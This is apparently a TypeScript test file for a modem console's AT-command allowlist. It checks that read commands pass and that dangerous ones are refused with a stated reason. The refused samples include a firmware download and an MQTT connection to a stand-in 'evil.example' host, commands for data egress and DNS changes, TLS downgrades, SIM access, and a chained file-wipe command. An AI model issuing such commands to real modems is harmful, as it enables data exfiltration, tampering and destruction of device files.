/** The AT troubleshooting allowlist: exact matches pass, everything else is refused with a reason. Node-free (XS too). */
import { AT_ALLOWLIST, checkAtCommand } from "../../modules/console/at-allowlist.js";
import { deepEqual, ok } from "../support/assert.js";
import type { TestCase } from "../support/cases.js";

function refused(text: string, reason: RegExp): void {
  const check = checkAtCommand(text);
  ok(!check.ok, `${text} must be refused`);
  ok(!check.ok && reason.test(check.error), `${text}: "${!check.ok && check.error}" does not match ${reason}`);
}

export const cases: TestCase[] = [
  {
    name: "every allowlisted command passes in any letter case and is sent in its canonical spelling",
    run() {
      for (const command of AT_ALLOWLIST) {
        deepEqual(checkAtCommand(command), { ok: true, command });
        deepEqual(checkAtCommand(command.toLowerCase()), { ok: true, command });
      }
    },
  },
  {
    name: "the allowlist holds only read, test and reporting forms",
    run() {
      for (const command of AT_ALLOWLIST) {
        ok(/^AT(I|\+[A-Z]+(\?|=\?|="[a-z]+")?)$/.test(command), command);
        ok(!/^AT\+(QF|QMT|QHTTP|QFTP|QSSL|QI(OPEN|SEND|CSGP)|CMGS)/.test(command), command);
      }
    },
  },
  {
    name: "the issue's examples are all allowed",
    run() {
      for (const command of ["ATI", "AT+CSQ", "AT+QCSQ", "AT+COPS?", "AT+CEREG?", "AT+CGREG?", "AT+CREG?", "AT+QNWINFO", "AT+CPIN?", "AT+CCLK?", "AT+QIACT?", "AT+CGPADDR"]) {
        ok(checkAtCommand(command).ok, command);
      }
    },
  },
  {
    name: "modem file access is refused: upload, download, delete, list, open, read",
    run() {
      for (const command of ['AT+QFUPL="cacert.pem",1200', 'AT+QFDWL="client.key"', 'AT+QFDEL="*"', 'AT+QFLST="*"', 'AT+QFOPEN="x"', "AT+QFREAD=1", "AT+QFWRITE=1,10"]) {
        refused(command, /modem files/);
      }
    },
  },
  {
    name: "modem firmware updates are refused",
    run() {
      refused('AT+QFOTADL="http://evil.example/update.zip"', /firmware/);
      refused("AT+QFOTADL=1", /firmware/);
    },
  },
  {
    name: "publishing, posting, sockets and data egress are refused",
    run() {
      refused('AT+QMTOPEN=0,"evil.example",1883', /MQTT/);
      refused('AT+QMTPUB=0,0,0,0,"t"', /MQTT/);
      refused('AT+QMTCONN=0,"id","user","pw"', /MQTT/);
      refused("AT+QHTTPPOST=10", /HTTP/);
      refused('AT+QHTTPURL=20', /HTTP/);
      refused('AT+QFTPPUT="x"', /FTP/);
      refused('AT+QIOPEN=1,0,"TCP LISTENER","127.0.0.1",0,2020,0', /socket/);
      refused("AT+QISEND=0,5", /socket/);
      refused("AT+QISWTMD=0,2", /data mode/);
      refused('AT+QPING=1,"8.8.8.8"', /traffic/);
      refused('AT+QIDNSCFG=1,"6.6.6.6"', /DNS/);
      refused('AT+CMGS="+15551234"', /SMS/);
    },
  },
  {
    name: "TLS settings and credentials are refused, read forms included",
    run() {
      refused('AT+QSSLCFG="seclevel",1,0', /TLS/);
      refused('AT+QSSLCFG="ciphersuite",1,0xFFFF', /TLS/);
      refused("AT+QICSGP=1", /APN credentials/);
      refused("AT+QICSGP?", /APN credentials/);
    },
  },
  {
    name: "data mode, dialling and link changes are refused",
    run() {
      refused("ATD*99#", /dials/);
      refused("ATO", /data mode/);
      refused("+++", /data mode/);
      refused("ATA", /call/);
      refused("ATS3=10", /S-registers/);
      refused("ATE1", /echo/);
      refused("ATV0", /result codes/);
      refused("ATZ", /profile/);
      refused("AT&W", /profile/);
      refused("AT&F", /profile/);
      refused("AT+IPR=9600", /baud/);
      refused("AT+IFC=2,2", /flow control/);
      refused("AT+CFUN=1,1", /radio/);
      refused("AT+QPOWD", /powers the modem off/);
      refused('AT+CPIN="1234"', /SIM/);
      refused('AT+CLCK="SC",1,"1234"', /SIM/);
      refused("AT+CRSM=176,28542,0,0,11", /SIM/);
    },
  },
  {
    name: "chaining, repeat, several commands, spaces and non-AT text are refused",
    run() {
      refused('AT+CSQ;+QFDEL="*"', /chaining/);
      refused("AT+CSQ;", /chaining/);
      refused("A/", /repeat/);
      refused("a/", /repeat/);
      refused("AT+CSQ AT+CEREG?", /spaces/);
      refused("AT +CSQ", /spaces/);
      refused("status", /not an AT command/);
      refused("", /no command/);
    },
  },
  {
    name: "write forms and near misses of allowed commands are refused",
    run() {
      refused("AT+CEREG=2", /write and execute forms/);
      refused("AT+COPS=1,2,\"26201\"", /write and execute forms/);
      refused("AT+CGDCONT=1,\"IP\",\"evil\"", /write and execute forms/);
      refused("AT+CSQ?", /allowlist/);
      refused("ATI9", /allowlist/);
      refused("AT+CGSN=1", /write and execute forms/);
      refused('AT+QCFG="band",0,0', /write and execute forms/);
      refused("AT+QCFG=\"urcport\"", /write and execute forms/);
    },
  },
];
